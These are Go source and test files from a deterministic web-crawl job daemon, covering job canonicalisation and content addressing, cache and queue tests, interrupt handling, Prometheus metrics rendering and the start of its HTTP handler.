	// metrics registry — counters are atomic and order-independent
	var rtel *telemetry.Telemetry
	if d.tel.Enabled() {
		rtel = &telemetry.Telemetry{
			Metrics: d.tel.Metrics,
			Spans:   telemetry.NewFlight(telemetry.DefaultFlightCapacity),
			Logs:    d.tel.Logs,
		}
	}
	rep, tm, _ := bundle.ReplayCrawl(src, policy, func(c *openwpm.CrawlConfig) {
		if mut != nil {
			mut(c)
		}
		c.Recorder = rec
		c.Telemetry = rtel
	})
	// strip the process-lifetime registry snapshot before sealing: a replay
	// artifact must be digest-identical no matter what else the daemon ran
	rep.Metrics = nil
	replayed, err := rec.Finalize(tm.Cfg, src.Sites, rep)
	if err != nil {
		return nil, ArtifactMeta{}, err
	}
	artifact, err := replayed.Marshal()
	if err != nil {
		return nil, ArtifactMeta{}, err
	}
	if rtel != nil {
		// replay spans start at id 1 in their own flight; merge renumbers
		// through the same path the scheduler uses so formats match
		if err := d.sealTrace(j, telemetry.MergeTraces(rtel.Spans.Events())); err != nil {
			return nil, ArtifactMeta{}, err
		}
	}
	return artifact, ArtifactMeta{Kind: spec.Kind, Digest: replayed.Digest, ContentType: "application/json"}, nil
}

// reportArtifact seals a canonical-JSON report document: the artifact is the
// indented canonical encoding, the digest its SHA-256.
func reportArtifact(kind string, doc any) ([]byte, ArtifactMeta, error) {
	data, err := json.MarshalIndent(doc, "", " ")
	if err != nil {
		return nil, ArtifactMeta{}, err
	}
	data = append(data, '\n')
	sum := sha256.Sum256(data)
	return data, ArtifactMeta{Kind: kind, Digest: hex.EncodeToString(sum[:]), ContentType: "application/json"}, nil
}

// executeDiff records a scan, replays it under the variant observer and
// seals the per-visit divergence report.
func (d *Daemon) executeDiff(j *Job) ([]byte, ArtifactMeta, error) {
	spec := j.Spec
	r, err := experiments.RunBundleDiff(spec.Seed, experiments.BundleDiffOptions{
		NumSites:     spec.NumSites,
		MaxSubpages:  spec.MaxSubpages,
		Variant:      spec.Variant,
		FaultProfile: faultProfile(spec.Faults),
		FaultSeed:    spec.FaultSeed,
	})
	if err != nil {
		return nil, ArtifactMeta{}, err
	}
	return reportArtifact(spec.Kind, struct {
		Sites        int                `json:"sites"`
		WorldSeed    int64              `json:"worldSeed"`
		Variant      string             `json:"variant"`
		BaseDigest   string             `json:"baseDigest"`
		ReplayDigest string             `json:"replayDigest"`
		Hits         int                `json:"hits"`
		Misses       int                `json:"misses"`
		Diff         *bundle.DiffReport `json:"diff"`
	}{r.Sites, r.WorldSeed, r.Variant, r.Base.Digest, r.Replay.Digest, r.Hits, r.Misses, r.Diff})
}

// executeAgreement runs the static-vs-dynamic tamper agreement experiment
// and seals its per-rule table.
func (d *Daemon) executeAgreement(j *Job) ([]byte, ArtifactMeta, error) {
	spec := j.Spec
	r := experiments.RunStaticDynamicAgreement(spec.Seed, spec.NumSites, nil)
	return reportArtifact(spec.Kind, r)
}

// CacheStats reports the artifact cache's occupancy for /healthz.
func (d *Daemon) CacheStats() (entries int, bytes int64) {
	return d.cache.Len(), d.cache.Bytes()
}

// QueueDepth reports the number of queued jobs.
func (d *Daemon) QueueDepth() int { return d.queue.Depth() }

// Telemetry exposes the daemon's registry (for /metrics).
func (d *Daemon) Telemetry() *telemetry.Telemetry { return d.tel }

// RetryAfterSeconds is the advisory backoff for 429 responses.
func (d *Daemon) RetryAfterSeconds() int { return d.cfg.RetryAfterSeconds }
