// Package signal centralises the "seal the WAL, exit 3" interrupt contract
// shared by every crawl-owning binary (wpmscan, wpmreliability, wpmd): the
// first SIGINT/SIGTERM requests a cooperative stop at the next site boundary,
// a second signal falls back to immediate death.
package signal

import (
	"os"
	ossignal "os/signal"
	"syscall"
)

// ExitInterrupted is the process exit status for a crawl stopped by
// SIGINT/SIGTERM after its state was checkpointed and sealed: not a success,
// not a failure — a resumable pause. Wrappers that see it know to re-run
// with the recovery path (wpmscan -recover; wpmd recovers on start).
const ExitInterrupted = 3

// Notify arms the shared interrupt contract and returns the stop channel to
// hand to the crawl (sched.Crawl.Stop, ScanOptions.Stop, or wpmd's drain).
// On the first SIGINT/SIGTERM the announce callback (if any) runs, the
// channel closes, and signal delivery reverts to the default disposition so
// a second signal kills the process immediately.
func Notify(announce func(os.Signal)) <-chan struct{} {
	stop := make(chan struct{})
	sigc := make(chan os.Signal, 1)
	ossignal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
	go func() {
		s := <-sigc
		if announce != nil {
			announce(s)
		}
		close(stop)
		ossignal.Stop(sigc) // a second signal falls back to immediate death
	}()
	return stop
}
