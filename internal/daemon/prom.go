package daemon

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"

	"gullible/internal/telemetry"
)

// metricHelp documents the daemon's own metric families on the /metrics
// exposition. Families without an entry render with no HELP line.
var metricHelp = map[string]string{
	"daemon_jobs_submitted_total":   "Job specs received by POST /v1/jobs.",
	"daemon_jobs_completed_total":   "Jobs sealed into the artifact cache.",
	"daemon_jobs_failed_total":      "Jobs that reached a terminal error.",
	"daemon_jobs_interrupted_total": "Jobs checkpointed mid-crawl by a drain.",
	"daemon_jobs_recovered_total":   "Queued jobs re-admitted after a restart.",
	"daemon_jobs_coalesced_total":   "Submissions coalesced onto an identical in-flight job.",
	"daemon_jobs_rejected_total":    "Submissions rejected by queue depth or tenant budget.",
	"daemon_cache_hits_total":       "Submissions answered from the artifact cache.",
	"daemon_cache_misses_total":     "Submissions that missed the artifact cache.",
	"daemon_event_drops_total":      "Job events dropped for slow SSE subscribers.",
	"daemon_queue_depth":            "Jobs currently queued.",
	"daemon_jobs_running":           "Jobs currently executing.",
	"daemon_cache_bytes":            "Artifact cache volume on disk.",
	"daemon_cache_entries":          "Artifact cache entry count.",
	"http_requests_total":           "HTTP requests by route.",
	"http_responses_total":          "HTTP responses by route and status code.",
	"http_inflight_requests":        "HTTP requests currently being served, by route.",
	"http_request_seconds":          "HTTP request latency by route (wall clock).",
	"script_cache_entries":          "Unique script bodies in the shared parse/compile cache.",
	"script_cache_programs":         "Compiled program variants (per content × URL) held by the cache.",
	"script_cache_hits_total":       "Script cache hits (program or analysis served without parsing).",
	"script_cache_misses_total":     "Script cache misses (script parsed, compiled or analysed).",
	"script_cache_collisions_total": "Hash-key collisions detected by source verification (served uncached).",
	"script_cache_evictions_total":  "Content entries evicted LRU at capacity.",
	"runtime_goroutines":            "Goroutines at scrape time.",
	"runtime_heap_alloc_bytes":      "Heap bytes allocated and still in use at scrape time.",
	"runtime_gc_cycles_total":       "Completed GC cycles at scrape time.",
}

// promEscapeLabel escapes a label value per the Prometheus text exposition
// format: backslash, double quote and newline.
func promEscapeLabel(v string) string {
	v = strings.ReplaceAll(v, `\`, `\\`)
	v = strings.ReplaceAll(v, `"`, `\"`)
	v = strings.ReplaceAll(v, "\n", `\n`)
	return v
}

// promEscapeHelp escapes HELP text: backslash and newline (quotes are legal).
func promEscapeHelp(v string) string {
	v = strings.ReplaceAll(v, `\`, `\\`)
	v = strings.ReplaceAll(v, "\n", `\n`)
	return v
}

// splitSeriesKey inverts telemetry's seriesKey rendering: `name` or
// `name{k1=v1,k2=v2}` back into name and labels. Label values in this
// codebase are enum-like (kinds, reasons, shard indices) and never contain
// ',' or '=', which the split relies on; a malformed key degrades to a
// single opaque label rather than corrupting the exposition.
func splitSeriesKey(key string) (name string, labels []telemetry.Label) {
	open := strings.IndexByte(key, '{')
	if open < 0 || !strings.HasSuffix(key, "}") {
		return key, nil
	}
	name = key[:open]
	for _, part := range strings.Split(key[open+1:len(key)-1], ",") {
		k, v, ok := strings.Cut(part, "=")
		if !ok {
			k, v = "label", part
		}
		labels = append(labels, telemetry.L(k, v))
	}
	return name, labels
}

// promSeries renders one sample line: bare `name value` for unlabeled series
// (the grep-friendly form the daemon smoke tests match), quoted-and-escaped
// labels otherwise. extra labels (le for histogram buckets) are appended.
func promSeries(name string, labels []telemetry.Label, value string, extra ...telemetry.Label) string {
	all := append(append([]telemetry.Label(nil), labels...), extra...)
	if len(all) == 0 {
		return name + " " + value
	}
	var b strings.Builder
	b.WriteString(name)
	b.WriteByte('{')
	for i, l := range all {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Key)
		b.WriteString(`="`)
		b.WriteString(promEscapeLabel(l.Value))
		b.WriteString(`"`)
	}
	b.WriteString("} ")
	b.WriteString(value)
	return b.String()
}

// promFamily groups one metric family's series for rendering.
type promFamily struct {
	name string
	kind string // counter | gauge | histogram
	rows []string
}

// renderProm writes the snapshot in the Prometheus text exposition format:
// families sorted by name, HELP and TYPE headers, escaped label values, and
// histograms expanded into cumulative _bucket{le=...}, _sum and _count rows.
func renderProm(w io.Writer, snap *telemetry.Snapshot) {
	fams := map[string]*promFamily{}
	family := func(name, kind string) *promFamily {
		f, ok := fams[name]
		if !ok {
			f = &promFamily{name: name, kind: kind}
			fams[name] = f
		}
		return f
	}
	// iterate every map in sorted key order: series keys embed sorted labels,
	// so this yields a deterministic exposition with histogram buckets kept
	// in ascending le order (a lexical row sort would scramble them)
	for _, key := range sortedKeys(snap.Counters) {
		name, labels := splitSeriesKey(key)
		f := family(name, "counter")
		f.rows = append(f.rows, promSeries(name, labels, strconv.FormatInt(snap.Counters[key], 10)))
	}
	for _, key := range sortedKeys(snap.Gauges) {
		name, labels := splitSeriesKey(key)
		f := family(name, "gauge")
		f.rows = append(f.rows, promSeries(name, labels, strconv.FormatInt(snap.Gauges[key], 10)))
	}
	for _, key := range sortedKeys(snap.Histograms) {
		h := snap.Histograms[key]
		name, labels := splitSeriesKey(key)
		f := family(name, "histogram")
		cum := int64(0)
		for i, bound := range h.Bounds {
			cum += h.Counts[i]
			f.rows = append(f.rows, promSeries(name+"_bucket", labels,
				strconv.FormatInt(cum, 10), telemetry.L("le", formatBound(bound))))
		}
		f.rows = append(f.rows, promSeries(name+"_bucket", labels,
			strconv.FormatInt(h.Count, 10), telemetry.L("le", "+Inf")))
		f.rows = append(f.rows, promSeries(name+"_sum", labels,
			strconv.FormatFloat(float64(h.SumMicros)/1e6, 'g', -1, 64)))
		f.rows = append(f.rows, promSeries(name+"_count", labels,
			strconv.FormatInt(h.Count, 10)))
	}
	names := make([]string, 0, len(fams))
	for n := range fams {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		f := fams[n]
		if help, ok := metricHelp[n]; ok {
			fmt.Fprintf(w, "# HELP %s %s\n", n, promEscapeHelp(help))
		}
		fmt.Fprintf(w, "# TYPE %s %s\n", n, f.kind)
		for _, row := range f.rows {
			fmt.Fprintln(w, row)
		}
	}
}

// sortedKeys returns a map's keys sorted.
func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// formatBound renders a histogram bucket bound the way Prometheus expects
// (shortest float form).
func formatBound(b float64) string {
	return strconv.FormatFloat(b, 'g', -1, 64)
}
