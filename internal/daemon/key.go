// Package daemon implements wpmd, the crawl-as-a-service layer: a
// long-running job server in front of the deterministic crawl substrate.
//
// The design follows from one observation the rest of the repo spent six PRs
// earning: a seeded crawl is a pure function of (site list, configuration,
// seed). That makes every job response cacheable forever — the first
// execution seals its artifact (an execution bundle or a canonical-JSON
// report) into a content-addressed cache, and every identical request
// afterwards is served from disk with bytes identical to a cold run. One box
// absorbs millions-of-users traffic because the expensive path runs once per
// distinct request, not once per request.
//
// The moving parts:
//
//   - key.go: JobSpec and its canonicalisation. Jobs are keyed by the SHA-256
//     of the canonical form — site list normalised, defaults made explicit,
//     kind-irrelevant fields zeroed — so semantically identical requests
//     collide onto one address no matter how they were spelled.
//   - cache.go: a disk-backed, byte-budgeted LRU of sealed artifacts.
//   - queue.go: a bounded admission queue with per-tenant cost budgets;
//     overload is rejected loudly (HTTP 429 + Retry-After), never absorbed
//     into unbounded memory.
//   - daemon.go: the job lifecycle. Crawl jobs execute through internal/sched
//     with per-shard WAL backends, so a daemon killed mid-job recovers the
//     crawl from its logs on restart and finishes digest-identical to an
//     uninterrupted run. Drain checkpoints in-flight jobs and persists queued
//     ones.
//   - http.go: the HTTP surface (POST /v1/jobs, GET /v1/jobs/{id},
//     GET /v1/jobs/{id}/artifact, /healthz, /metrics) rendered straight from
//     internal/telemetry snapshots.
package daemon

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"

	"gullible/internal/websim"
)

// Job kinds accepted by the daemon.
const (
	KindCrawl     = "crawl"     // record a scan into a sealed execution bundle
	KindReplay    = "replay"    // re-execute a cached bundle under a variant observer
	KindDiff      = "diff"      // record + variant-replay + per-visit diff report
	KindAgreement = "agreement" // static-vs-dynamic tamper agreement table
)

// Spec defaults made explicit by Canonicalize. A spec that spells one of
// these out hashes identically to a spec that omits it — defaults are part of
// the semantics, not of the wire encoding.
const (
	DefaultSeed        = 42
	DefaultMaxSubpages = 3
	DefaultFaultSeed   = 1
	DefaultFaults      = "off"
	DefaultMiss        = "synthesize-404"
	DefaultVariant     = "stealth"
)

// JobSpec is the wire form of a job request. The zero value of every field
// means "use the default"; Canonicalize resolves defaults, normalises the
// site list and zeroes fields the job kind does not consume, so the canonical
// form — and therefore the content address — is unique per meaning, not per
// spelling.
type JobSpec struct {
	// Kind selects the job type: crawl, replay, diff or agreement.
	Kind string `json:"kind"`

	// Sites is the explicit site list to crawl. When empty, the top
	// NumSites ranked sites of the seeded synthetic web are used (and
	// materialised into the canonical form, so an explicit copy of the
	// ranked list hashes identically to the NumSites shorthand).
	Sites []string `json:"sites,omitempty"`
	// NumSites sizes the synthetic world (and, when Sites is empty, the
	// ranked crawl list). Defaults to len(Sites).
	NumSites int `json:"numSites,omitempty"`
	// Seed is the world seed (default 42).
	Seed int64 `json:"seed,omitempty"`
	// MaxSubpages bounds same-site subpage visits (default 3).
	MaxSubpages int `json:"maxSubpages,omitempty"`
	// MaxVisitSeconds arms the per-visit virtual watchdog (0 = off).
	MaxVisitSeconds float64 `json:"maxVisitSeconds,omitempty"`
	// Faults selects a seeded fault profile: off, default or heavy.
	Faults string `json:"faults,omitempty"`
	// FaultSeed seeds the fault injector (default 1; zeroed when Faults is
	// off — an unused seed must not split the cache).
	FaultSeed int64 `json:"faultSeed,omitempty"`

	// Source is the content address of a completed crawl job whose cached
	// bundle a replay job re-executes. Replay only.
	Source string `json:"source,omitempty"`
	// Miss is the replay miss policy: fail, passthrough or synthesize-404
	// (default). Replay only.
	Miss string `json:"miss,omitempty"`
	// Variant is the observer change applied on the replay side: stealth
	// (default), headless, legacy, nohoney — or none for a faithful
	// re-execution. Replay and diff.
	Variant string `json:"variant,omitempty"`
}

// validFaults are the accepted fault profile names.
var validFaults = map[string]bool{"off": true, "default": true, "heavy": true}

// validMiss are the accepted replay miss policies.
var validMiss = map[string]bool{"fail": true, "passthrough": true, "synthesize-404": true}

// validVariants are the accepted replay-side observer variants; "none"
// replays the recorded configuration unchanged.
var validVariants = map[string]bool{"none": true, "stealth": true, "headless": true, "legacy": true, "nohoney": true}

// maxSites bounds a single job so one request cannot monopolise the box; the
// admission queue prices jobs in sites, and this is the largest purchase.
const maxSites = 200000

// Canonicalize validates a spec and rewrites it into its canonical form:
// site entries trimmed and empties dropped, the ranked list materialised from
// NumSites, every default made explicit, and fields the kind does not consume
// zeroed. Two specs with the same meaning canonicalise to identical structs.
func Canonicalize(s JobSpec) (JobSpec, error) {
	c := JobSpec{Kind: strings.TrimSpace(s.Kind)}
	switch c.Kind {
	case KindCrawl, KindReplay, KindDiff, KindAgreement:
	case "":
		return c, fmt.Errorf("daemon: job spec has no kind (want crawl, replay, diff or agreement)")
	default:
		return c, fmt.Errorf("daemon: unknown job kind %q (want crawl, replay, diff or agreement)", s.Kind)
	}

	if c.Kind == KindReplay {
		c.Source = strings.TrimSpace(s.Source)
		if c.Source == "" {
			return c, fmt.Errorf("daemon: replay job needs a source content address")
		}
		c.Miss = strings.TrimSpace(s.Miss)
		if c.Miss == "" {
			c.Miss = DefaultMiss
		}
		if !validMiss[c.Miss] {
			return c, fmt.Errorf("daemon: unknown miss policy %q (want fail, passthrough or synthesize-404)", c.Miss)
		}
		c.Variant = strings.TrimSpace(s.Variant)
		if c.Variant == "" {
			c.Variant = DefaultVariant
		}
		if !validVariants[c.Variant] {
			return c, fmt.Errorf("daemon: unknown variant %q (want none, stealth, headless, legacy or nohoney)", s.Variant)
		}
		return c, nil
	}

	// the three world-crawling kinds share the site/seed/fault surface
	for _, u := range s.Sites {
		u = strings.TrimSpace(u)
		if u != "" {
			c.Sites = append(c.Sites, u)
		}
	}
	c.NumSites = s.NumSites
	if c.NumSites == 0 {
		c.NumSites = len(c.Sites)
	}
	if c.NumSites <= 0 {
		return c, fmt.Errorf("daemon: %s job needs numSites or a site list", c.Kind)
	}
	if c.NumSites > maxSites || len(c.Sites) > maxSites {
		return c, fmt.Errorf("daemon: job exceeds the %d-site ceiling", maxSites)
	}
	ranked := len(c.Sites) == 0
	if ranked {
		// materialise the ranked list: the NumSites shorthand and an
		// explicit copy of the same list must collide onto one address
		c.Sites = websim.Tranco(c.NumSites)
	}
	if c.Kind != KindCrawl && !ranked {
		// diff and agreement re-run fixed experiments over the ranked
		// prefix; an explicit list is only legal when it IS that prefix
		want := websim.Tranco(c.NumSites)
		if len(c.Sites) != len(want) {
			return c, fmt.Errorf("daemon: %s jobs crawl the ranked list; pass numSites instead of sites", c.Kind)
		}
		for i := range want {
			if c.Sites[i] != want[i] {
				return c, fmt.Errorf("daemon: %s jobs crawl the ranked list; pass numSites instead of sites", c.Kind)
			}
		}
	}
	c.Seed = s.Seed
	if c.Seed == 0 {
		c.Seed = DefaultSeed
	}
	c.MaxSubpages = s.MaxSubpages
	if c.MaxSubpages == 0 {
		c.MaxSubpages = DefaultMaxSubpages
	}
	c.MaxVisitSeconds = s.MaxVisitSeconds
	c.Faults = strings.TrimSpace(s.Faults)
	if c.Faults == "" {
		c.Faults = DefaultFaults
	}
	if !validFaults[c.Faults] {
		return c, fmt.Errorf("daemon: unknown fault profile %q (want off, default or heavy)", s.Faults)
	}
	if c.Faults == "off" {
		c.FaultSeed = 0 // unused seed must not split the cache
	} else {
		c.FaultSeed = s.FaultSeed
		if c.FaultSeed == 0 {
			c.FaultSeed = DefaultFaultSeed
		}
	}
	if c.Kind == KindDiff {
		c.MaxVisitSeconds = 0 // the diff experiment fixes its own hardening
		c.Variant = strings.TrimSpace(s.Variant)
		if c.Variant == "" {
			c.Variant = DefaultVariant
		}
		if !validVariants[c.Variant] || c.Variant == "none" {
			return c, fmt.Errorf("daemon: unknown diff variant %q (want stealth, headless, legacy or nohoney)", s.Variant)
		}
	}
	if c.Kind == KindAgreement {
		// the agreement experiment fixes its own crawl shape
		c.MaxSubpages = 2
		c.MaxVisitSeconds = 0
		c.Faults = DefaultFaults
		c.FaultSeed = 0
	}
	return c, nil
}

// keyFormat versions the content-address computation; bump it when the
// canonical form changes meaning so stale cache entries cannot alias.
const keyFormat = 1

// ContentAddress canonicalises a spec and returns its content address: the
// hex SHA-256 of the canonical JSON encoding of (format, canonical spec).
// The address is the job ID, the cache key and the artifact name.
func ContentAddress(s JobSpec) (string, JobSpec, error) {
	c, err := Canonicalize(s)
	if err != nil {
		return "", c, err
	}
	data, err := json.Marshal(struct {
		Format int     `json:"format"`
		Spec   JobSpec `json:"spec"`
	}{keyFormat, c})
	if err != nil {
		return "", c, err
	}
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:]), c, nil
}

// Cost prices a canonical spec for admission control, in sites: the unit the
// queue's per-tenant budgets are denominated in. Replays are cheap (offline
// re-execution of one archive); the crawling kinds pay per site, and diff
// pays double (it crawls and then replays).
func Cost(c JobSpec) int64 {
	switch c.Kind {
	case KindReplay:
		return 1
	case KindDiff:
		return int64(2 * c.NumSites)
	default:
		return int64(c.NumSites)
	}
}
