package daemon

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

func put(t *testing.T, c *Cache, addr string, size int) {
	t.Helper()
	if err := c.Put(addr, make([]byte, size), ArtifactMeta{Kind: KindCrawl, Digest: "d-" + addr, ContentType: "application/json"}); err != nil {
		t.Fatalf("Put(%s): %v", addr, err)
	}
}

func TestCacheRoundTrip(t *testing.T) {
	c, err := OpenCache(t.TempDir(), 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	artifact := []byte("sealed bundle bytes")
	if err := c.Put("a1", artifact, ArtifactMeta{Kind: KindCrawl, Digest: "dig", ContentType: "application/json"}); err != nil {
		t.Fatal(err)
	}
	data, meta, ok := c.Get("a1")
	if !ok || string(data) != string(artifact) {
		t.Fatalf("Get returned %q ok=%v", data, ok)
	}
	if meta.Digest != "dig" || meta.Bytes != int64(len(artifact)) {
		t.Fatalf("meta %+v", meta)
	}
	if _, _, ok := c.Get("missing"); ok {
		t.Fatal("Get(missing) hit")
	}
}

func TestCacheLRUEviction(t *testing.T) {
	c, err := OpenCache(t.TempDir(), 300, nil)
	if err != nil {
		t.Fatal(err)
	}
	put(t, c, "a", 100)
	put(t, c, "b", 100)
	put(t, c, "c", 100)
	// keep "a" warm, then overflow: "b" is now the coldest entry
	if _, ok := c.Touch("a"); !ok {
		t.Fatal("Touch(a) missed")
	}
	put(t, c, "d", 100)
	if c.Contains("b") {
		t.Fatal("LRU evicted the wrong entry: b survived")
	}
	for _, want := range []string{"a", "c", "d"} {
		if !c.Contains(want) {
			t.Fatalf("entry %s evicted, want b gone only", want)
		}
	}
	if c.Bytes() != 300 {
		t.Fatalf("cache holds %d bytes, want 300", c.Bytes())
	}
}

func TestCacheOversizeArtifactStored(t *testing.T) {
	c, err := OpenCache(t.TempDir(), 50, nil)
	if err != nil {
		t.Fatal(err)
	}
	put(t, c, "big", 200) // larger than the whole budget: stored anyway
	if !c.Contains("big") {
		t.Fatal("own Put evicted the new entry")
	}
	put(t, c, "next", 10) // the next Put evicts it
	if c.Contains("big") || !c.Contains("next") {
		t.Fatalf("eviction after oversize entry wrong: big=%v next=%v", c.Contains("big"), c.Contains("next"))
	}
}

func TestCacheRestartRebuildsIndexAndRecency(t *testing.T) {
	dir := t.TempDir()
	c, err := OpenCache(dir, 250, nil)
	if err != nil {
		t.Fatal(err)
	}
	put(t, c, "a", 100)
	put(t, c, "b", 100)
	if _, ok := c.Touch("a"); !ok { // persisted? Touch alone is in-memory…
		t.Fatal("Touch(a) missed")
	}
	// Get persists the recency bump; use it so the order survives restart
	if _, _, ok := c.Get("a"); !ok {
		t.Fatal("Get(a) missed")
	}

	c2, err := OpenCache(dir, 250, nil)
	if err != nil {
		t.Fatal(err)
	}
	if c2.Len() != 2 || c2.Bytes() != 200 {
		t.Fatalf("rebuilt index: %d entries, %d bytes", c2.Len(), c2.Bytes())
	}
	data, meta, ok := c2.Get("a")
	if !ok || len(data) != 100 || meta.Digest != "d-a" {
		t.Fatalf("rebuilt Get(a): ok=%v len=%d meta=%+v", ok, len(data), meta)
	}
	// recency from the previous process still orders eviction: "b" is colder
	put(t, c2, "c", 100)
	if c2.Contains("b") || !c2.Contains("a") {
		t.Fatalf("restart lost recency: a=%v b=%v", c2.Contains("a"), c2.Contains("b"))
	}
}

func TestCacheDamagedPairsRemovedOnOpen(t *testing.T) {
	dir := t.TempDir()
	c, err := OpenCache(dir, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	put(t, c, "whole", 10)
	put(t, c, "noart", 10)
	put(t, c, "short", 10)
	if err := os.Remove(filepath.Join(dir, "noart.art")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "short.art"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	c2, err := OpenCache(dir, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !c2.Contains("whole") || c2.Contains("noart") || c2.Contains("short") {
		t.Fatalf("damage handling wrong: whole=%v noart=%v short=%v",
			c2.Contains("whole"), c2.Contains("noart"), c2.Contains("short"))
	}
}

func TestCacheGetSelfHealsOnDiskLoss(t *testing.T) {
	dir := t.TempDir()
	c, err := OpenCache(dir, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	put(t, c, "gone", 10)
	if err := os.Remove(filepath.Join(dir, "gone.art")); err != nil {
		t.Fatal(err)
	}
	if _, _, ok := c.Get("gone"); ok {
		t.Fatal("Get served an artifact the disk lost")
	}
	if c.Contains("gone") {
		t.Fatal("lost entry still indexed")
	}
}

func TestCacheAddrsMostRecentFirst(t *testing.T) {
	c, err := OpenCache(t.TempDir(), 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		put(t, c, fmt.Sprintf("e%d", i), 10)
	}
	if _, ok := c.Touch("e0"); !ok {
		t.Fatal("Touch missed")
	}
	addrs := c.Addrs()
	if len(addrs) != 3 || addrs[0] != "e0" {
		t.Fatalf("Addrs() = %v, want e0 first", addrs)
	}
}
