package daemon

import (
	"testing"
)

func qjob(tenant string, cost int64) *Job {
	return &Job{Tenant: tenant, Cost: cost, done: make(chan struct{})}
}

func TestQueueDepthLimit(t *testing.T) {
	q := NewQueue(2, 0)
	if err := q.Admit(qjob("t", 1), false); err != nil {
		t.Fatal(err)
	}
	if err := q.Admit(qjob("t", 1), false); err != nil {
		t.Fatal(err)
	}
	if err := q.Admit(qjob("t", 1), false); err != ErrQueueFull {
		t.Fatalf("third admit: %v, want ErrQueueFull", err)
	}
	// force bypasses the depth check (restart recovery)
	if err := q.Admit(qjob("t", 1), true); err != nil {
		t.Fatalf("forced admit: %v", err)
	}
	if q.Depth() != 3 {
		t.Fatalf("depth %d, want 3", q.Depth())
	}
}

func TestQueueTenantBudget(t *testing.T) {
	q := NewQueue(0, 10)
	a := qjob("alice", 7)
	if err := q.Admit(a, false); err != nil {
		t.Fatal(err)
	}
	if err := q.Admit(qjob("alice", 4), false); err != ErrTenantBudget {
		t.Fatalf("over-budget admit: %v, want ErrTenantBudget", err)
	}
	// another tenant is unaffected
	if err := q.Admit(qjob("bob", 10), false); err != nil {
		t.Fatalf("bob's admit: %v", err)
	}
	// the budget is held until the job terminates, then frees
	q.Release(a)
	if got := q.TenantLoad("alice"); got != 0 {
		t.Fatalf("alice's load after release: %d", got)
	}
	if err := q.Admit(qjob("alice", 10), false); err != nil {
		t.Fatalf("admit after release: %v", err)
	}
}

func TestQueueNextFIFO(t *testing.T) {
	q := NewQueue(0, 0)
	a, b := qjob("t", 1), qjob("t", 1)
	if err := q.Admit(a, false); err != nil {
		t.Fatal(err)
	}
	if err := q.Admit(b, false); err != nil {
		t.Fatal(err)
	}
	if j, ok := q.Next(); !ok || j != a {
		t.Fatalf("first Next: %v ok=%v", j, ok)
	}
	if j, ok := q.Next(); !ok || j != b {
		t.Fatalf("second Next: %v ok=%v", j, ok)
	}
}

func TestQueueNextBlocksUntilAdmit(t *testing.T) {
	q := NewQueue(0, 0)
	got := make(chan *Job, 1)
	go func() {
		j, _ := q.Next()
		got <- j
	}()
	want := qjob("t", 1)
	if err := q.Admit(want, false); err != nil {
		t.Fatal(err)
	}
	if j := <-got; j != want {
		t.Fatalf("blocked Next returned %v", j)
	}
}

func TestQueueCloseDrains(t *testing.T) {
	q := NewQueue(0, 0)
	if err := q.Admit(qjob("t", 1), false); err != nil {
		t.Fatal(err)
	}
	done := make(chan bool, 2)
	for i := 0; i < 2; i++ {
		go func() {
			_, ok := q.Next()
			done <- ok
		}()
	}
	q.Close()
	// both blocked executors wake with ok=false, even though a job remains:
	// drain means stop working, the leftover job is persisted on disk
	for i := 0; i < 2; i++ {
		if ok := <-done; ok {
			t.Fatal("Next returned a job after Close")
		}
	}
	if err := q.Admit(qjob("t", 1), false); err == nil {
		t.Fatal("closed queue admitted a job")
	}
	if err := q.Admit(qjob("t", 1), true); err == nil {
		t.Fatal("closed queue admitted a forced job")
	}
}
