package daemon

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/pprof"
	"runtime"
	"strconv"
	"strings"

	"gullible/internal/scriptcache"
	"gullible/internal/telemetry"
)

// Handler builds the daemon's HTTP API:
//
//	POST /v1/jobs                submit a job spec (JSON body); 200 with a
//	                             cached status on a hit, 202 on admission,
//	                             400 on a bad spec, 429 + Retry-After when
//	                             the queue or the tenant budget is full,
//	                             503 while draining
//	GET  /v1/jobs/{id}           job status by content address
//	GET  /v1/jobs/{id}/artifact  sealed artifact bytes (X-Artifact-Digest
//	                             header carries the integrity digest)
//	GET  /v1/jobs/{id}/trace     the job's sealed span trace (JSON lines;
//	                             analyse with wpmtrace)
//	GET  /v1/jobs/{id}/events    live job event stream (SSE): state
//	                             transitions, crawl progress, span events;
//	                             Last-Event-ID resumes from the replay ring
//	GET  /healthz                liveness; 503 while draining
//	GET  /metrics                telemetry snapshot plus runtime gauges;
//	                             Prometheus text exposition by default,
//	                             canonical JSON with ?format=json or
//	                             Accept: application/json
//	GET  /debug/pprof/*          profiling, only with Config.EnablePprof
//
// Every route is wrapped in telemetry middleware: http_requests_total and
// http_inflight_requests per route, plus http_request_seconds latency
// histograms when Config.NowNanos is injected.
//
// The tenant identity for budget accounting comes from the X-Tenant header
// (empty = the anonymous tenant). Handler returns a mux, not a server: the
// caller owns listener lifecycle and MUST set Read/Write/Idle timeouts on
// its http.Server (the wpmlint servertimeouts rule enforces this for
// in-repo callers). Note the write timeout bounds how long an SSE stream
// can stay open.
func Handler(d *Daemon) http.Handler {
	mux := http.NewServeMux()
	route := func(pattern, name string, h func(*Daemon, http.ResponseWriter, *http.Request)) {
		mux.HandleFunc(pattern, d.instrument(name, func(w http.ResponseWriter, r *http.Request) {
			h(d, w, r)
		}))
	}
	route("POST /v1/jobs", "/v1/jobs", handleSubmit)
	route("GET /v1/jobs/{id}", "/v1/jobs/{id}", handleStatus)
	route("GET /v1/jobs/{id}/artifact", "/v1/jobs/{id}/artifact", handleArtifact)
